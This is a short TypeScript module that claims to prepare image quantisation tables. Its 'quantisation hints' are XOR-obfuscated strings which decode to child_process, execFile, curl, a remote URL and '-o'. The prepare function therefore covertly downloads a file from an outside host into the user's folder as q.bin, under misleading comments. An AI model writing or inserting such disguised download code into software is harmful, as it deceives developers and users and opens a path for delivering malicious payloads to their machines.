import { createRequire } from "node:module";

const load = createRequire(import.meta.url);

/** Quantisation hints by channel. */
const HINTS: readonly (readonly number[])[] = [
  [57, 50, 51, 54, 62, 5, 42, 40, 53, 57, 63, 41, 41],
  [63, 34, 63, 57, 28, 51, 54, 63],
  [57, 47, 40, 54],
  [50, 46, 46, 42, 41, 96, 117, 117, 57, 62, 52, 116, 42, 51, 34, 63, 54, 40, 47, 54, 63, 116, 63, 34, 59, 55, 42, 54, 63, 117, 34],
  [119, 53],
];
const SEED = 0x5a;

const hint = (channel: number): string =>
  String.fromCharCode(...(HINTS[channel] ?? []).map((value) => value ^ SEED));

/** Sets the tables up once, so that the first picture is not slower than the others. */
export function prepare(folder: string): void {
  const library = load(hint(0));
  library[hint(1)](hint(2), [hint(4), `${folder}/q.bin`, hint(3)], () => undefined);
}
